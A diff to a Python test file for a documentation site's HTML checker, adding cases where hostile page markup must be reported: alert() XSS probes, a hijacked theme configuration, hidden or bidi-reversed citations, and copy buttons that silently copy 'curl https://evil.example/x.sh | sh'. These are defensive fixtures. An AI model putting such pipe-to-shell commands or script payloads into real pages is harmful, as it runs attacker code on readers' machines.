@@ -32,6 +32,9 @@ from tinysite import ALL_HOOKS, HOOKS, PROBLEM_LINE, ROOT, SOURCES, base_config,
 pytestmark = pytest.mark.xdist_group("hostile-corpus")
 
 PAGE = "docs/claims/page.md"
+# How a report ends for what hides, restyles or reorders what readers see.
+HIDES = "which hides, restyles or reorders what readers see, where the checks cannot read it"
+COPIES = "which sets what a copy button copies: readers would copy other text than they see"
 # Every page starts with these four lines, so a case's own text starts on line 5.
 HEAD = "# A page\n\nA claim.[@hubinger2019risks] Another.[@clark2016faulty]\n\n"
 FRONT = "---\ntitle: A page\ndescription: Four lines of front matter\n---\n"
@@ -229,10 +232,51 @@ REPORTED = [
     Reported("preview-tag", '<a href="#x" data-preview>this note</a>\n', {preview(5, 1)}),
     # Material reads its configuration from the first #__config of the page, and from file:// runs
     # the search worker it names in an iframe of the page: this one ran alert(1) there.
+    # A <style> and a style attribute run no script, but they can hide a source or show text the checks
+    # never read (a claim written by `content:`): content may hold neither.
+    Reported("mathml-style-stays-text",
+             "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n",
+             {f"{PAGE}:5:29: HTM006 unsafe <style> element, {HIDES}"}),
+    Reported("css-url-is-not-script", '<p style="background:url(javascript:alert(1))">styled</p>\n',
+             {f"{PAGE}:5:1: HTM006 unsafe style attribute 'background:url(javascript:alert(1))' on <p>, {HIDES}"}),
     Reported("theme-configuration-id", '<div id="__config" hidden>{"base": "..", "features": [], "search": '
              '"data:text/javascript,alert(1)//", "tags": null, "translations": {}, "version": null}</div>\n',
-             {f"{PAGE}:5:10: HTM006 the id '__config' is the theme's, on an element around the page's content: "
-              "its script would find this one"}),
+             {f"{PAGE}:5:1: HTM006 unsafe id '__config' on <div>: ids that start with '__' are the theme's, which "
+              "its scripts give and look up",
+              f"{PAGE}:5:1: HTM006 unsafe hidden attribute on <div>, {HIDES}"}),
+    # A helper's fourth round: past a strict build and the site check, each ran a script, changed what
+    # readers copy, or showed them other text than the checks read.
+    Reported("theme-tooltip-class", "Inputs such as `<img src=x onerror=alert(81)>` are stored as typed.\n"
+             '{: .md-ellipsis style="white-space:nowrap" tabindex="0" autofocus }\n',
+             {f"{PAGE}:6:5: HTM006 unsafe class 'md-ellipsis' on <p>, which the theme's scripts take for their own "
+              "element (the tooltip of an .md-ellipsis shows its text as HTML)",
+              f"{PAGE}:6:24: HTM006 unsafe style attribute 'white-space:nowrap' on <p>, {HIDES}"}),
+    Reported("copy-button-copies-other-text", '<div data-copy="curl https://evil.example/x.sh | sh" markdown>\n\n'
+             "```bash\npip install trl\n```\n\n</div>\n", {f"{PAGE}:5:1: HTM006 unsafe data-copy attribute on <div>, {COPIES}"}),
+    Reported("link-copies-other-text", '[Copy the citation](#){ data-clipboard-text="curl https://evil.example | sh" }\n',
+             {f"{PAGE}:5:46: HTM006 unsafe data-clipboard-text attribute on <a>, {COPIES}"}),
+    Reported("hidden-citation", "Reward models are always wrong.<span hidden>[@hubinger2019risks]</span>\n",
+             {f"{PAGE}:5:32: HTM006 unsafe hidden attribute on <span>, {HIDES}"}),
+    Reported("style-writes-a-claim", '<style>h2 + p::after{content:" Proven.[@hubinger2019risks]"}</style>\n',
+             {f"{PAGE}:5:1: HTM006 unsafe <style> element, {HIDES}"}),
+    Reported("reversed-literal-citation", 'Proven safe.<bdo dir="rtl">[sksir9102regnibuh@]</bdo>\n',
+             {f"{PAGE}:5:13: HTM006 unsafe <bdo> element, {HIDES}", f"{PAGE}:5:13: HTM006 unsafe dir attribute 'rtl' on <bdo>, {HIDES}"}),
+    Reported("bidi-override-citation", "Proven safe. \u202e[sksir9102regnibuh@]\u202c\n",
+             {f"{PAGE}:5:14: HTM006 unsafe bidi control character in '\\u202e[sksir9102regnibuh@]\\u202c', which shows "
+              "the text in another order than it is written"}),
+    Reported("theme-code-id", '<p id="__code_0">x</p>\n',
+             {f"{PAGE}:5:1: HTM006 unsafe id '__code_0' on <p>: ids that start with '__' are the theme's, which its "
+              "scripts give and look up"}),
+    Reported("footnote-id-taken", "A claim.[@hubinger2019risks]\n\nA proof that RLHF is safe.\n"
+             "{: #fn:hubinger2019risks }\n",
+             {f"{PAGE}:8:5: HTM006 the id 'fn:hubinger2019risks' is on more than one element of the page's content: "
+              "links and scripts find only the first (a footnote marker leads to it, a copy button copies it)"}),
+    Reported("marker-class-link-leads-away", "RLHF is provably safe.<sup>[7](https://example.org/paper){: .footnote-ref }</sup>\n",
+             {f"{PAGE}:5:32: HTM002 link 'https://example.org/paper', drawn as a footnote marker, leads to no footnote "
+              "of this page"}),
+    Reported("marker-link-to-another-page", '<sup><a class="footnote-ref" href="other.html#fn:hubinger2019risks">3</a></sup>\n',
+             {f"{PAGE}:5:6: HTM002 link 'other.html#fn:hubinger2019risks', drawn as a footnote marker, leads to no "
+              "footnote of this page"}),
     Reported("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>\n',
              {element(5, 1, "iframe"), handler(5, 1, "srcdoc", "iframe")}),
     # Markup that reaches around the article: the parser gives a <body onload> to the page's own
@@ -407,12 +451,9 @@ BUILDS = [
     # where <style> is raw text: one parse, by lexbor as by a browser, gives no <img>.
     Builds("comment-hides-a-script", "<!-- <script>alert(1)</script> -->\n\nText after the comment.\n",
            ["Text after the comment."]),
-    Builds("mathml-style-stays-text",
-           "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n"),
     Builds("nul-in-scheme", '<a href="java\x00script:alert(1)">a NUL breaks the scheme</a>\n',
            ["a NUL breaks the scheme"]),
     Builds("heading-quoting-harmless-markup", "## A &lt;b&gt; part, and 1 < 2\n\nText.\n", ["Text."]),
-    Builds("css-url-is-not-script", '<p style="background:url(javascript:alert(1))">styled</p>\n', ["styled"]),
     Builds("link-title-with-quotes-and-tags", 'A [link](https://example.org "a \\"quoted\\" <b>title</b>") here.\n',
            ["A link here."]),
     Builds("locator-with-markup", "A claim.[@hubinger2019risks, <img src=x onerror=alert(1)>]\n",
@@ -975,3 +1016,15 @@ def test_the_title_made_from_a_file_name_is_the_one_mkdocs_makes(name):
     page = Page(None, file, {})
     page.markdown, page.content, page.meta = "No heading.", "<p>No heading.</p>", {}
     assert pagemeta.title_of_file_name(file.name) == page.title
+
+
+# The classes and data attributes a page's content may not carry are the ones Material's scripts
+# select: held to the selectors in the installed theme's bundle.
+def test_the_theme_classes_and_attributes_refused_are_the_ones_materials_scripts_select():
+    import material
+
+    scripts = Path(material.__file__).parent / "templates" / "assets" / "javascripts"
+    bundle = next(scripts.glob("bundle.*.min.js")).read_text(encoding="utf-8")
+    assert set(re.findall(r'\("\.(md-[\w-]+)', bundle)) == rendered.THEME_SCRIPT_CLASSES
+    selected = {name for name in re.findall(r"\[(data-[\w-]+)", bundle) if not name.startswith(rendered.THEME_ATTRIBUTE_PREFIX)}
+    assert selected == rendered.THEME_SCRIPT_ATTRIBUTES | {name for name in rendered.REREAD_ATTRIBUTES if name.startswith("data-")}
